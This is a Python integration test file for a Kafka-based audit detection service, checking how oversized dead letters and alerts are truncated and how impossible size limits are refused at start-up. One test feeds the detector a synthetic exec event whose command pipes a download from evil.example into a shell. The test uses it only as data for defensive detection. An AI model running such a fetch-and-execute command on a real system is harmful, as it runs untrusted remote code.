"""Output records that would not fit: a dead letter of a record bigger than what the producer or
the dead-letter topic accepts, an alert whose encoding is too big, and output topics whose limits
the producer's batches could exceed. Each one used to stop the replica (exit 4, then the same
offset again after every restart); now the service goes on, and an impossible combination of
limits is refused at start-up.
"""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from pathlib import Path

import pytest
from confluent_kafka import KafkaError, Message, Producer

from auditstream.detections.alert import SourceRef
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.loader import load_rules
from auditstream.stream.service.replica import EXIT_CONFIG
from devtools.traffic.synthetic import exec_audit_events
from tests.conftest import CreateTopic
from tests.integration.service.conftest import Deployment, StartInProcess, Topics
from tests.integration.service.corpus import build_corpus, encode, scan_alert_ids

pytestmark = pytest.mark.integration

FIVE_MB = 5 * 1024 * 1024
PRODUCER_LIMIT = 1_000_000  # librdkafka's default message.max.bytes, which the service keeps


def produce_large(
    bootstrap: str,
    topic: str,
    values: Sequence[bytes],
    keys: Sequence[bytes],
    headers: Sequence[list[tuple[str, bytes]]],
) -> None:
    """Like conftest's ``produce``, with a producer that accepts records of up to 6 MB."""
    errors: list[KafkaError] = []

    def on_delivery(err: KafkaError | None, _msg: Message) -> None:
        if err is not None:
            errors.append(err)

    producer = Producer(
        {"bootstrap.servers": bootstrap, "enable.idempotence": True, "linger.ms": 20,
         "message.max.bytes": 6_000_000}
    )  # fmt: skip
    for value, key, extra in zip(values, keys, headers, strict=True):
        while True:
            try:
                producer.produce(topic, value, key, headers=extra, on_delivery=on_delivery)
                break
            except BufferError:
                producer.poll(0.1)
        producer.poll(0)
    assert producer.flush(60) == 0
    assert errors == []


@pytest.fixture
def large_input(bootstrap: str, create_topic: CreateTopic, group_id: str) -> Deployment:
    """An input topic that accepts 5 MB records; alert and dead-letter topics at the broker's
    default limit (1,048,588 bytes)."""
    config = {"max.message.bytes": str(FIVE_MB)}
    topics = Topics(
        create_topic(partitions=6, config=config), create_topic(partitions=3), create_topic(), 6
    )
    return Deployment(bootstrap, topics, group_id)


def test_a_dead_letter_too_big_to_produce_is_cut_and_the_service_goes_on(
    large_input: Deployment, in_process: StartInProcess, tmp_path: Path
) -> None:
    deployment = large_input
    good = build_corpus(execs=20, routine=100, seed=16)
    poison = json.dumps({"kind": "Event", "pad": "x" * 1_500_000}).encode()
    values = [*good[:60], poison, *good[60:]]
    keys = [f"good-{i}".encode() for i in range(len(values))]
    keys[60] = b"poison"
    headers: list[list[tuple[str, bytes]]] = [[] for _ in values]
    headers[60] = [("trace-id", b"t-16")]
    produce_large(deployment.bootstrap, deployment.topics.inputs, values, keys, headers)

    running = in_process(deployment.env())  # max_message_bytes: the default, 1,048,576
    deployment.wait_committed_to_end(timeout=90, alive=running.check_alive)
    assert running.stop() == 0

    [letter] = deployment.dead_letters()
    assert letter.key() == b"poison"
    value = letter.value() or b""
    assert 0 < len(value) < PRODUCER_LIMIT
    assert poison.startswith(value)  # the start of the record, as it was
    all_headers = letter.headers() or []
    assert all_headers[0] == ("trace-id", b"t-16")  # the originals, first
    ours = dict(all_headers[1:])
    assert ours["auditstream.dlq.reason"] == b"oversized"
    assert ours["auditstream.dlq.truncated"] == b"true"
    assert ours["auditstream.dlq.original_bytes"] == str(len(poison)).encode()
    assert ours["auditstream.source.topic"] == deployment.topics.inputs.encode()
    assert int(ours["auditstream.source.partition"]) in range(6)
    assert int(ours["auditstream.source.offset"]) >= 0
    alert_ids = {(m.key() or b"").decode() for m in deployment.alerts()}
    assert alert_ids == set(scan_alert_ids(good, tmp_path))


def _expected_alert_ids(records: Sequence[bytes]) -> set[str]:
    """What the service's pipeline gives on ``records`` with the input limit of the test."""
    rules = load_rules([], builtin=True).rules
    pipeline = DetectionPipeline(Detector(rules), RecentAlerts(10_000), max_message_bytes=FIVE_MB)
    source = SourceRef("kafka", topic="t", partition=0, offset=0)
    return {a.alert_id for r in records for a in pipeline.process_message(r, source).alerts}


def test_an_alert_too_big_for_the_producer_is_shrunk_and_produced(
    large_input: Deployment, in_process: StartInProcess
) -> None:
    deployment = large_input
    good = build_corpus(execs=10, routine=60, seed=17)
    # A malicious exec with 200 arguments of 7,000 characters: its events are 1.4 MB each, and
    # the hardened rule's alert carries every argument (capped at 8,192 characters, 256 items).
    command = ("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh", *["A" * 7000] * 200)
    big = [encode(e) for e in exec_audit_events(command=command, audit_id="big-exec-17")]
    assert all(1_000_000 < len(v) < FIVE_MB for v in big)
    values = [*good[:30], *big, *good[30:]]
    keys = [f"k-{i}".encode() for i in range(len(values))]
    produce_large(
        deployment.bootstrap, deployment.topics.inputs, values, keys, [[] for _ in values]
    )

    running = in_process(deployment.env(max_message_bytes=str(FIVE_MB)))
    deployment.wait_committed_to_end(timeout=90, alive=running.check_alive)
    assert running.stop() == 0

    alerts = deployment.alerts()
    assert {(m.key() or b"").decode() for m in alerts} == _expected_alert_ids(values)
    assert deployment.dead_letters() == []
    shrunk = [m for m in alerts if dict(m.headers() or []).get("auditstream.alert.truncated")]
    assert shrunk, "the hardened rule's alert on the big exec needed shrinking"
    for msg in shrunk:
        value = msg.value() or b""
        assert len(value) < PRODUCER_LIMIT
        record = json.loads(value)
        assert record["alert_id"] == (msg.key() or b"").decode()
        assert record["event"]["audit_id"] == "big-exec-17"
        assert "...[truncated" in value.decode()
        original = int(dict(msg.headers() or [])["auditstream.alert.original_bytes"])
        assert original > PRODUCER_LIMIT


def test_limits_the_producer_could_exceed_are_refused_at_startup(
    bootstrap: str,
    create_topic: CreateTopic,
    group_id: str,
    in_process: StartInProcess,
) -> None:
    """A dead-letter topic that accepts 100,000-byte batches, and eight 60 kB records that are
    not UTF-8 (random, so compression does not shrink them): with the producer's default limit
    (1,000,000 bytes) its batches of dead letters would be refused by the broker."""
    topics = Topics(
        create_topic(partitions=1),
        create_topic(),
        create_topic(config={"max.message.bytes": "100000"}),
        1,
    )
    deployment = Deployment(bootstrap, topics, group_id)
    rng = random.Random(18)
    poison = [b"\xff" + rng.randbytes(60_000) for _ in range(8)]
    deployment.produce([*build_corpus(execs=2, routine=10, seed=18), *poison])

    refused = in_process(deployment.env())
    refused.thread.join(60)
    assert not refused.thread.is_alive(), "the service started with limits it cannot keep"
    assert refused.result == [EXIT_CONFIG]
    assert deployment.committed_total() == 0

    # The remedy the error names: the producer's limit at most the topic's.
    running = in_process(deployment.env(producer__message_max_bytes="100000"))
    deployment.wait_committed_to_end(timeout=60, alive=running.check_alive)
    assert running.stop() == 0
    letters = deployment.dead_letters()
    assert sorted(m.value() or b"" for m in letters) == sorted(poison)  # whole: they fit
    assert all(dict(m.headers() or [])[("auditstream.dlq.reason")] == b"not_utf8" for m in letters)
